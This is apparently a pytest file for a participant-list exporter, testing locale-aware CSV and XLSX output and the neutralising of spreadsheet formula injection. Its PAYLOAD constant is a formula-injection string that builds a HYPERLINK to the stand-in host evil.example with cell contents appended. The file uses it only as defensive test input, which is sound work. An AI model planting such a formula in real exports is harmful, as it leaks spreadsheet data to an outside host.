"""CSV and XLSX writing: the organiser's list separator and decimal comma, formula injection
neutralised however a spreadsheet splits the line, typed XLSX cells without apostrophes."""
import csv
import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from participants.spreadsheets import Table, as_csv, as_xlsx, neutralise

PAYLOAD = 'Paz;=HYPERLINK("http://evil.example/?"&A2,"ver")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(body: bytes, delimiter: str) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def cells_as_a_spreadsheet_splits_them(body: bytes, separator: str) -> list[str]:
    """What a spreadsheet set up with `separator` may put in cells: every line cut at the
    separator, quoted or not (the worst case), blanks and quotes around each piece ignored."""
    text = body.decode("utf-8-sig")
    return [piece.strip(' "') for line in text.replace("\r", "\n").split("\n") for piece in line.split(separator)]


@pytest.mark.parametrize("value", ["=1+1", "+595 996578189", "-2", "@SUM(A1)", "\tTab", "\rCR",
                                   ' =1+1', '"=1+1"'])
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Rosa", "D'Angelo", "Fiscal - Lima", "", "3,75", "<script>x</script>"])
def test_ordinary_text_is_left_as_typed(value):
    assert neutralise(value) == value


def test_a_formula_after_a_separator_is_neutralised_too():
    assert neutralise(PAYLOAD) == "Paz;'=HYPERLINK(\"http://evil.example/?\"&A2,\"ver\")"
    assert neutralise("Lima, +51 1 234") == "Lima, '+51 1 234"
    assert neutralise('x;"=1+1') == "x;\"'=1+1"
    assert neutralise("línea\n@SUM(A1)") == "línea\n'@SUM(A1)"
    assert neutralise("Paz;'=1+1") == "Paz;'=1+1"  # already text: not prefixed twice


@pytest.mark.parametrize("locale_name,delimiter,decimal,large", [("es", ";", "3,75", "1234,5"),
                                                                 ("fr", ";", "3,75", "1234,5"),
                                                                 ("en", ",", "3.75", "1234.5")])
def test_csv_follows_the_locale_quotes_every_field_and_writes_local_numbers(locale_name, delimiter, decimal, large):
    table = Table("Hoja", ["Nombre", "Horas"], [["Rosa", 3.75], ["Inés", 1234.5], [None, 12]])
    body = as_csv(table, locale_name)
    assert body.decode("utf-8-sig").splitlines()[1] == f'"Rosa"{delimiter}"{decimal}"'
    assert read_csv(body, delimiter) == [["Nombre", "Horas"], ["Rosa", decimal], ["Inés", large], ["", "12"]]


@pytest.mark.parametrize("locale_name", ["es", "en", "fr"])
def test_no_piece_of_a_csv_line_starts_a_formula_whatever_the_separator(locale_name):
    values = [PAYLOAD, "=1+1", "+595 996578189", "-2", "@SUM(A1)", "\tTab", "a,=1+1", 'b;"-1', "c\n+1", "d, @x"]
    body = as_csv(Table("x", ["h"], [[value] for value in values]), locale_name)
    for separator in (";", ",", "\t"):
        pieces = cells_as_a_spreadsheet_splits_them(body, separator)
        assert not [piece for piece in pieces if piece.startswith(DANGEROUS)], separator
    delimiter = ";" if locale_name != "en" else ","
    assert [row[0] for row in read_csv(body, delimiter)[1:]][:2] == ["Paz;'=HYPERLINK(\"http://evil.example/?\"&A2,\"ver\")",
                                                                    "'=1+1"]


def test_csv_datetimes_are_local_clock_times():
    lima = dt.datetime(2026, 3, 2, 10, 5, tzinfo=ZoneInfo("America/Lima"))
    body = as_csv(Table("x", ["h"], [[lima], [dt.date(2026, 3, 2)]]), "es")
    assert read_csv(body, ";")[1:] == [["2026-03-02 10:05"], ["2026-03-02"]]


def test_xlsx_has_text_cells_without_apostrophes_numbers_and_dates():
    lima = dt.datetime(2026, 3, 2, 10, 5, tzinfo=ZoneInfo("America/Lima"))
    table = Table("Inscripciones", ["Nombre", "Teléfono", "Horas", "Inscrito el"],
                  [["=1+1", "+595 996578189", 3.75, lima], [PAYLOAD, "Rosa", 2, None]])
    body = as_xlsx(table)
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.title == "Inscripciones"
    assert [cell.value for cell in sheet[1]] == ["Nombre", "Teléfono", "Horas", "Inscrito el"]
    assert sheet["A1"].font.bold
    formula, phone, hours, registered = sheet[2]
    assert (formula.value, formula.data_type) == ("=1+1", "s") and formula.quotePrefix
    assert (phone.value, phone.data_type) == ("+595 996578189", "s") and phone.quotePrefix
    assert (hours.value, hours.data_type) == (3.75, "n")
    assert registered.is_date and registered.value == dt.datetime(2026, 3, 2, 10, 5)
    assert registered.number_format == "yyyy-mm-dd hh:mm"
    assert sheet["A3"].value == PAYLOAD and not sheet["B3"].quotePrefix and sheet["C3"].value == 2
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "'=1+1" not in xml


def test_xlsx_drops_characters_the_format_forbids():
    sheet = load_workbook(io.BytesIO(as_xlsx(Table("a/b:c", ["h"], [["Ro\x0bsa\x00"]])))).active
    assert sheet["A2"].value == "Rosa" and sheet.title == "a b c"
